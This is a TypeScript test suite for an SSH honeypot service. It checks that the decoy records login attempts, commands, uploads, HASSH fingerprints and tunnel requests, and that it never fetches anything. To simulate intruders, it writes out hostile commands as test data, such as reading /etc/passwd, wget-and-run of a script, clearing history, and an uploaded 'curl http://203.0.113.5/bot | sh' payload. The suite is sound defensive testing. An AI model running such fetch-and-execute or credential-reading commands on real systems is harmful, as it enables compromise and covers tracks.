// ssh decoy driven by real clients: ssh2's Client (every auth method, exec, pty shell, sftp, scp,
// forwarding) and, when installed, OpenSSH's ssh/sshpass. Checks the exact fields recorded, that
// HASSH matches an independent computation from the client's own KEXINIT, that host keys survive
// a restart, that nothing is fetched, and that garbage leaves the service answering.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, generateKeyPairSync } from 'node:crypto';
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { connect as tcpConnect, createServer, type AddressInfo, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ssh2, { type AnyAuthMethod, type ConnectConfig } from 'ssh2';
import { startTestDecky, type TestDecky, type TestEvent } from '../harness.ts';

// Host keys are kept under the data directory: point it at a scratch place for this file.
process.env.DECNET_DATA_DIR = mkdtempSync(join(tmpdir(), 'decnet-ssh-test-'));

const { Client, utils } = ssh2;
const FAST = { fail_delay_ms: '0' };

let d: TestDecky;
before(async () => {
  d = await startTestDecky({ services: [{ name: 'ssh', config: FAST }] });
});
after(async () => {
  await d?.stop();
});

/** Connects; resolves with the ready client or rejects with the client's error. */
function open(target: TestDecky, cfg: ConnectConfig): Promise<InstanceType<typeof Client>> {
  return new Promise((resolve, reject) => {
    const c = new Client();
    c.once('ready', () => resolve(c));
    c.once('error', reject);
    // A server that disconnects "by application" closes without an error event.
    c.once('close', () => reject(new Error('connection closed before authentication')));
    c.connect({ host: target.ip, port: target.port('ssh'), readyTimeout: 10_000, ...cfg });
  });
}

function exec(c: InstanceType<typeof Client>, command: string): Promise<{ out: string; err: string; code: number | null }> {
  return new Promise((resolve, reject) => {
    c.exec(command, (err, stream) => {
      if (err) return reject(err);
      let out = '';
      let errText = '';
      let code: number | null = null;
      stream.on('data', (b: Buffer) => { out += b.toString(); });
      stream.stderr.on('data', (b: Buffer) => { errText += b.toString(); });
      stream.on('exit', (c2: number) => { code = c2; });
      stream.on('close', () => resolve({ out, err: errText, code }));
    });
  });
}

const bySession = (events: TestEvent[], id: string) => events.filter((e) => e.fields.session_id === id);

test('every auth method is recorded with its secret; the weak password opens exec; nothing is fetched', async (t) => {
  let fetched = 0;
  const http = createHttpServer((_q, r) => { fetched++; r.end('x'); });
  await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
  t.after(() => http.close());
  const url = `http://127.0.0.1:${(http.address() as AddressInfo).port}/x.sh`;

  // ssh2 parses OpenSSH-format and PEM RSA/EC keys; an RSA key in PKCS#1 PEM keeps the test simple.
  const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs1', format: 'pem' }).toString();
  const parsed = utils.parseKey(rsa);
  assert.ok(!(parsed instanceof Error));
  const expectedFp = 'SHA256:' + createHash('sha256').update((parsed as { getPublicSSH(): Buffer }).getPublicSSH()).digest('base64').replace(/=+$/, '');

  const methods: AnyAuthMethod[] = [
      { type: 'password', username: 'root', password: 'wrong-1' },
      { type: 'password', username: 'root', password: 'wrong-2' },
      { type: 'keyboard-interactive', username: 'root', prompt: (_n, _i, _l, prompts, finish) => finish(prompts.map(() => 'kbd-secret')) },
      { type: 'publickey', username: 'root', key: rsa },
      { type: 'password', username: 'root', password: 'admin' },
  ];
  const c = await open(d, { username: 'root', authHandler: methods });
  const command = `uname -a; cat /etc/passwd; wget ${url}; chmod +x x.sh; ./x.sh; history -c`;
  const r = await exec(c, command);
  c.end();
  assert.match(r.out, /^Linux test-\S+ 6\.1\.0-\S+ #1 SMP PREEMPT_DYNAMIC Debian .* x86_64 GNU\/Linux$/m);
  assert.match(r.out, /^root:x:0:0:root:\/root:\/bin\/bash$/m);
  assert.match(r.err, /failed: Connection refused\./);
  assert.match(r.err, /bash: line 1: \.\/x\.sh: No such file or directory/);
  assert.equal(r.code, 0, 'the status of the last command (history -c)');

  const download = await d.waitForEvent((e) => e.event === 'download');
  const events = bySession(await d.events(), download.fields.session_id!);
  const attempts = events.filter((e) => e.event === 'auth_attempt');
  assert.deepEqual(attempts.map((e) => [e.fields.username, e.fields.auth_method, e.fields.success, e.secret?.toString()]), [
    ['root', 'password', 'false', 'wrong-1'],
    ['root', 'password', 'false', 'wrong-2'],
    ['root', 'keyboard-interactive', 'false', 'kbd-secret'],
    ['root', 'publickey', 'false', undefined],
    ['root', 'password', 'true', 'admin'],
  ]);
  const pk = attempts[3]!;
  assert.equal(pk.fields.key_type, 'ssh-rsa');
  assert.equal(pk.fields.fingerprint, expectedFp);
  const cmd = events.filter((e) => e.event === 'command');
  assert.deepEqual(cmd.map((e) => [e.fields.command, e.fields.cwd, e.fields.user, e.fields.mode]), [[command, '/root', 'root', 'exec']]);
  assert.equal(download.fields.url, url);
  assert.equal(download.fields.tool, 'wget');
  const hello = events.find((e) => e.event === 'client_hello');
  assert.match(hello?.fields.client_version ?? '', /^SSH-2\.0-ssh2js/);
  assert.equal(fetched, 0, 'the decoy fetched nothing');
});

/** Parses the client's first packet from raw captured bytes, independently of the service's code. */
function independentHassh(raw: Buffer): { version: string; hassh: string } {
  const nl = raw.indexOf('\n');
  const version = raw.subarray(0, nl).toString('latin1').replace(/\r$/, '');
  const pkt = raw.subarray(nl + 1);
  const len = pkt.readUInt32BE(0);
  const pad = pkt[4]!;
  const payload = pkt.subarray(5, 4 + len - pad);
  assert.equal(payload[0], 20, 'SSH_MSG_KEXINIT');
  let off = 17;
  const lists: string[] = [];
  for (let i = 0; i < 10; i++) {
    const n = payload.readUInt32BE(off);
    lists.push(payload.subarray(off + 4, off + 4 + n).toString('latin1'));
    off += 4 + n;
  }
  const text = [lists[0], lists[2], lists[4], lists[6]].join(';');
  return { version, hassh: createHash('md5').update(text).digest('hex') };
}

test('HASSH recorded equals the md5 of the KEXINIT the client really sent', async (t) => {
  // A tee between client and decky keeps the client's first bytes.
  const captured: Buffer[] = [];
  const proxy = createServer((inbound: Socket) => {
    const outbound = tcpConnect({ host: d.ip, port: d.port('ssh') });
    inbound.on('data', (b) => { if (captured.length < 64) captured.push(b); outbound.write(b); });
    outbound.on('data', (b) => inbound.write(b));
    inbound.on('close', () => outbound.destroy());
    outbound.on('close', () => inbound.destroy());
    inbound.on('error', () => undefined);
    outbound.on('error', () => undefined);
  });
  await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
  t.after(() => proxy.close());
  const c = await new Promise<InstanceType<typeof Client>>((resolve, reject) => {
    const cl = new Client();
    cl.once('ready', () => resolve(cl));
    cl.once('error', reject);
    cl.connect({ host: '127.0.0.1', port: (proxy.address() as AddressInfo).port, username: 'root', password: 'admin' });
  });
  c.end();
  const mine = independentHassh(Buffer.concat(captured));
  const hello = await d.waitForEvent((e) => e.event === 'client_hello' && e.fields.hassh === mine.hassh);
  assert.equal(hello.fields.client_version, mine.version);
  assert.equal(createHash('md5').update(hello.fields.hassh_algorithms!).digest('hex'), mine.hassh);
});

test('an interactive pty shell echoes, prompts, records each line and logs out', async () => {
  const c = await open(d, { username: 'ubuntu', password: 'admin' });
  const screen = await new Promise<string>((resolve, reject) => {
    c.shell({ term: 'xterm-256color', cols: 120, rows: 40 }, (err, stream) => {
      if (err) return reject(err);
      let text = '';
      let sent = false;
      stream.on('data', (b: Buffer) => {
        text += b.toString();
        if (!sent && /ubuntu@test-[\w-]+:~\$ $/.test(text)) {
          sent = true;
          stream.write('id; pwd\rexit\r');
        }
      });
      stream.on('close', () => resolve(text));
    });
  });
  c.end();
  assert.match(screen, /Last login: .* from /);
  assert.match(screen, /id; pwd\r\nuid=1000\(ubuntu\) gid=1000\(ubuntu\) groups=1000\(ubuntu\),4\(adm\).*\r\n\/home\/ubuntu\r\n/);
  assert.match(screen, /exit\r\nlogout\r\n$/);
  const pty = await d.waitForEvent((e) => e.event === 'request' && e.fields.kind === 'pty-req');
  assert.equal(pty.fields.term, 'xterm-256color');
  assert.equal(pty.fields.cols, '120');
  const cmds = bySession(await d.events(), pty.fields.session_id!).filter((e) => e.event === 'command');
  assert.deepEqual(cmds.map((e) => [e.fields.command, e.fields.user, e.fields.mode]), [['id; pwd', 'ubuntu', 'shell'], ['exit', 'ubuntu', 'shell']]);
});

test('sftp and scp uploads land in quarantine with their hash; forwarding is recorded and refused', async () => {
  const c = await open(d, { username: 'root', password: 'admin' });
  const payload = Buffer.from('#!/bin/sh\ncurl http://203.0.113.5/bot | sh\n');
  const sha = createHash('sha256').update(payload).digest('hex');
  await new Promise<void>((resolve, reject) => {
    c.sftp((err, sftp) => {
      if (err) return reject(err);
      sftp.writeFile('/tmp/bot.sh', payload, (e) => (e ? reject(e) : resolve()));
    });
  });
  const sftpUp = await d.waitForEvent((e) => e.event === 'file_upload' && e.fields.tool === 'sftp');
  assert.equal(sftpUp.fields.path, '/tmp/bot.sh');
  assert.equal(sftpUp.fields.sha256, sha);
  assert.equal(sftpUp.fields.size, String(payload.length));
  assert.deepEqual(readFileSync(sftpUp.fields.stored_as!), payload);

  // scp's sink protocol, spoken by hand over exec (what `scp file host:/tmp/` does).
  const scpData = Buffer.from('\x7fELF\x02\x01\x01 fake miner binary');
  const acks = await new Promise<number>((resolve, reject) => {
    c.exec('scp -t /tmp', (err, stream) => {
      if (err) return reject(err);
      let zeros = 0;
      let step = 0;
      stream.on('data', (b: Buffer) => {
        for (const byte of b) if (byte === 0) zeros++;
        if (step === 0 && zeros >= 1) { step = 1; stream.write(`C0755 ${scpData.length} miner\n`); }
        else if (step === 1 && zeros >= 2) { step = 2; stream.write(Buffer.concat([scpData, Buffer.from([0])])); }
        else if (step === 2 && zeros >= 3) { step = 3; stream.end(); }
      });
      stream.on('close', () => resolve(zeros));
    });
  });
  assert.equal(acks, 3);
  const scpUp = await d.waitForEvent((e) => e.event === 'file_upload' && e.fields.tool === 'scp');
  assert.equal(scpUp.fields.path, '/tmp/miner');
  assert.equal(scpUp.fields.sha256, createHash('sha256').update(scpData).digest('hex'));
  assert.deepEqual(readFileSync(scpUp.fields.stored_as!), scpData);

  await assert.rejects(new Promise((resolve, reject) => c.forwardOut('127.0.0.1', 40000, '10.9.8.7', 3306, (e, s) => (e ? reject(e) : resolve(s)))));
  await assert.rejects(new Promise((resolve, reject) => c.forwardIn('0.0.0.0', 8080, (e, p) => (e ? reject(e) : resolve(p)))));
  c.end();
  const out = await d.waitForEvent((e) => e.event === 'tunnel_request' && e.fields.kind === 'direct-tcpip');
  assert.equal(out.fields.dest_host, '10.9.8.7');
  assert.equal(out.fields.dest_port, '3306');
  const rev = await d.waitForEvent((e) => e.event === 'tunnel_request' && e.fields.kind === 'tcpip-forward');
  assert.equal(rev.fields.bind_port, '8080');
});

test('garbage, truncated handshakes and brute force leave the service answering', async () => {
  const raw = (data: Buffer): Promise<string> => new Promise((resolve) => {
    const s = tcpConnect({ host: d.ip, port: d.port('ssh') });
    let got = '';
    s.on('data', (b) => { got += b.toString('latin1'); });
    s.on('connect', () => { s.write(data); setTimeout(() => s.end(), 100); });
    s.on('error', () => undefined);
    s.on('close', () => resolve(got));
  });
  const banner = await raw(Buffer.from('GET / HTTP/1.0\r\n\r\n'));
  assert.match(banner, /^SSH-2\.0-OpenSSH_9\.2p1 Debian-2\+deb12u\d+\r\n/);
  const junk = Buffer.alloc(5000);
  for (let i = 0; i < junk.length; i++) junk[i] = (i * 7919) & 0xff;
  await raw(junk);
  await raw(Buffer.concat([Buffer.from('SSH-2.0-Truncated_1.0\r\n'), Buffer.from([0, 0, 1, 0, 8, 20, 1, 2, 3])]));
  const preview = await d.waitForEvent((e) => e.event === 'payload' && /GET \/ HTTP/.test(e.fields.preview ?? ''));
  assert.equal(preview.fields.error, 'not an SSH identification');
  await d.waitForEvent((e) => e.event === 'client_hello' && e.fields.client_version === 'SSH-2.0-Truncated_1.0');

  // MaxAuthTries: the seventh password never gets an answer; the connection is closed.
  const tries: AnyAuthMethod[] = Array.from({ length: 8 }, (_, i) => ({ type: 'password' as const, username: 'admin', password: `guess-${i}` }));
  await assert.rejects(open(d, { username: 'admin', authHandler: tries }));
  const blocked = await d.waitForEvent((e) => e.event === 'auth_blocked');
  assert.equal(blocked.fields.attempts, '6');

  const c = await open(d, { username: 'root', password: 'admin' });
  assert.equal((await exec(c, 'echo still-alive')).out, 'still-alive\n');
  c.end();
});

test('host keys persist across restarts; the banner follows the persona', async () => {
  const keyOf = async (target: TestDecky): Promise<string> => {
    let fp = '';
    const c = await open(target, { username: 'root', password: 'admin', hostHash: 'sha256', hostVerifier: (h: string) => { fp = h; return true; } });
    c.end();
    return fp;
  };
  const first = await startTestDecky({ name: 'ssh-keys-decky', services: [{ name: 'ssh', config: FAST }], persona: { distro: 'ubuntu22' } });
  const fp1 = await keyOf(first);
  const banner = await new Promise<string>((resolve) => {
    const s = tcpConnect({ host: first.ip, port: first.port('ssh') }, () => undefined);
    s.once('data', (b) => { resolve(b.toString('latin1')); s.destroy(); });
  });
  assert.match(banner, /^SSH-2\.0-OpenSSH_8\.9p1 Ubuntu-3ubuntu0\.\d+\r\n$/);
  await first.stop();
  const second = await startTestDecky({ name: 'ssh-keys-decky', services: [{ name: 'ssh', config: FAST }], persona: { distro: 'ubuntu22' }, dataDir: first.dataDir });
  const fp2 = await keyOf(second);
  await second.stop();
  assert.ok(fp1.length > 0);
  assert.equal(fp2, fp1, 'the same decky presents the same host key after a restart');
  assert.ok(existsSync(join(first.dataDir, 'state', 'ssh-keys-decky', 'ssh', 'ssh_host_ed25519_key')), 'keys live in the decky state directory');
});

test('Windows personas present OpenSSH for Windows and never open the Linux shell', async () => {
  const w = await startTestDecky({ services: [{ name: 'ssh', config: FAST }], persona: { distro: 'win2019', osFamily: 'windows', archetype: 'windows-server', hostname: 'FS01' } });
  try {
    await assert.rejects(open(w, { username: 'root', password: 'admin' }));
    const hello = await w.waitForEvent((e) => e.event === 'auth_attempt');
    assert.deepEqual([hello.fields.username, hello.fields.success, hello.secret?.toString()], ['root', 'false', 'admin']);
    const banner = await new Promise<string>((resolve) => {
      const s = tcpConnect({ host: w.ip, port: w.port('ssh') });
      s.once('data', (b) => { resolve(b.toString('latin1')); s.destroy(); });
    });
    assert.equal(banner, 'SSH-2.0-OpenSSH_for_Windows_8.1\r\n');
  } finally {
    await w.stop();
  }
});

function run(cmd: string, args: string[], input?: string): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = execFile(cmd, args, { timeout: 20_000 }, (err, stdout, stderr) => {
      resolve({ code: err ? (typeof err.code === 'number' ? err.code : 1) : 0, stdout, stderr });
    });
    if (input !== undefined) child.stdin?.end(input);
  });
}

test('OpenSSH client (sshpass): login, exec, and HASSH from its own debug output', async (t) => {
  const have = (bin: string) => ['/usr/bin', '/bin', '/usr/local/bin'].some((dir) => existsSync(join(dir, bin)));
  if (!have('ssh') || !have('sshpass')) {
    t.skip('OpenSSH client or sshpass not installed (apt-get install -y openssh-client sshpass)');
    return;
  }
  const common = ['-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'PreferredAuthentications=password,keyboard-interactive', '-p', String(d.port('ssh'))];
  const bad = await run('sshpass', ['-p', 'letmein', 'ssh', ...common, `root@${d.ip}`, 'true']);
  assert.notEqual(bad.code, 0);
  const good = await run('sshpass', ['-p', 'admin', 'ssh', '-vvv', ...common, `root@${d.ip}`, 'cat /etc/debian_version; whoami']);
  assert.equal(good.code, 0, good.stderr.slice(-500));
  assert.equal(good.stdout, '12.5\nroot\n');
  // The client's own proposal, as it logs it: kex, ciphers ctos, MACs ctos, compression ctos.
  const proposal = good.stderr.split('local client KEXINIT proposal')[1] ?? '';
  const field = (name: string) => new RegExp(`debug2: ${name}: (.*)`).exec(proposal)?.[1]?.trim() ?? '';
  const algorithms = [field('KEX algorithms'), field('ciphers ctos'), field('MACs ctos'), field('compression ctos')].join(';');
  const expected = createHash('md5').update(algorithms).digest('hex');
  const hello = await d.waitForEvent((e) => e.event === 'client_hello' && /OpenSSH/.test(e.fields.client_version ?? '') && e.fields.hassh === expected);
  assert.equal(hello.fields.hassh_algorithms, algorithms);
  const secrets = (await d.events()).filter((e) => e.event === 'auth_attempt' && e.fields.session_id !== undefined).map((e) => e.secret?.toString());
  assert.ok(secrets.includes('letmein') && secrets.includes('admin'));
});
